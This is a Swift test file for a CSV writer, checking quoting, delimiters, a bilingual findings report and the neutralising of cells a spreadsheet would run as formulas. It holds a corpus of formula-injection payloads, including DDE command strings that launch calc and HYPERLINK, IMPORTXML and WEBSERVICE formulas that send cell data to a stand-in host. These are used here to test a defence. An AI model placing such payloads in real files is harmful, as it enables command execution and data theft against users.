import Tabular
import Testing
import Values

struct CSVWriterTests {
    private func written(_ cells: [String], _ change: (inout CSVWriter.Options) -> Void = { _ in }) -> String {
        var options = CSVWriter.Options()
        change(&options)
        var writer = CSVWriter(options: options)
        writer.write(cells)
        return String(decoding: writer.takeBytes(), as: UTF8.self)
    }

    @Test func `cells are quoted only where they must be`() {
        #expect(written(["a", "b c", "1,5", "x\"y", "l1\nl2", "名称"]) == "a,b c,\"1,5\",\"x\"\"y\",\"l1\nl2\",名称\r\n")
        #expect(written(["1,5", "a;b"]) { $0.delimiter = UInt8(ascii: ";") } == "1,5;\"a;b\"\r\n")
        #expect(written([""]) == "\"\"\r\n")
        #expect(written(["", ""]) { $0.carriageReturns = false } == ",\n")
    }

    @Test(arguments: ["=1+1", "+cmd", "-cmd", "@SUM(A1)", "\tx", "-1+1", "-", "=HYPERLINK(\"x\")"])
    func `what a spreadsheet would run as a formula is made harmless`(cell: String) {
        let text = written([cell])
        #expect(text.hasPrefix("'") || text.hasPrefix("\"'"))
        #expect(!written([cell]) { $0.neutralizesFormulas = false }.contains("'"))
    }

    @Test(arguments: ["-12.50", "+3", "-1", "12", "a=b", "2013-02-28"])
    func `numbers and ordinary text stay as they are`(cell: String) {
        #expect(written([cell]) == "\(cell)\r\n")
    }

    @Test func `a carriage return in front is made harmless too`() {
        #expect(written(["\r=1"]) == "\"'\r=1\"\r\n")
    }

    @Test func `a line feed or NUL in front is made harmless too`() {
        #expect(written(["\n=1"]) == "\"'\n=1\"\r\n")
        #expect(written(["\u{0}=1"]) == "'\u{0}=1\r\n")
    }

    /// Attacks that have been seen in the wild, by what they begin with.
    private static let attacks = [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"报错\")", "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1+1|x",
        "+1e", "+", "-", "--1", "+-1", "=", "@", "\t=1", "\u{0}", "\r", "\n", "=王小明", "+86 138 1234 5678", "-王",
    ]

    @Test func `of a corpus of attacks none begins a cell, wherever the cell stands`() throws {
        for attack in Self.attacks {
            for cells in [[attack], ["a", attack], [attack, attack], ["", attack, ""]] {
                let text = written(cells)
                let read = Reading(Array("h1,h2,h3\r\n".utf8) + Array(text.utf8)).rows.first ?? []
                for (cell, original) in zip(read, cells) where original == attack {
                    #expect(cell.first == "'" || !"=+-@\t\r\n\u{0}".contains(cell.first ?? "a"), "\(attack.debugDescription)")
                }
                #expect(text.contains("'"), "\(attack.debugDescription)")
            }
        }
        for number in ["-12.50", "+3", "0", "-0.5", "1e5"] { #expect(!written([number]).contains("'")) }
    }

    @Test func `the report of findings opens in a spreadsheet and holds everything that was said`() {
        var report = FindingsReport(language: .english)
        report.write(FieldProblem.notYesNo.finding(row: 7, line: 9, column: "=evil", value: "maybe, \"x\""))
        report.write(StructureProblem.emptyFile.finding(row: 0, line: 0))
        let bytes = report.takeBytes()
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        let reading = Reading(bytes)
        #expect(reading.header == ["row", "line", "column", "value", "severity", "code", "what is wrong", "what would be right"])
        #expect(
            reading.rows == [
                ["7", "9", "'=evil", "maybe, \"x\"", "error", "not-yes-or-no", "This is neither yes nor no.", "Write “yes” or “no”."],
                [
                    "", "", "", "", "error", "empty-file", "The file is empty.", "Choose a file with a header and at least one row.",
                ],
            ])
        #expect(report.takeBytes().isEmpty)
    }

    @Test func `the report speaks Chinese where it is asked to`() {
        var report = FindingsReport(language: .simplifiedChinese)
        report.write(FieldProblem.notYesNo.finding(row: 7, line: 9, column: "c", value: "x"))
        #expect(Reading(report.takeBytes()).rows.first?[4...] == ["错误", "not-yes-or-no", "这不是“是”或“否”。", "请填写“是”或“否”。"])
    }
}
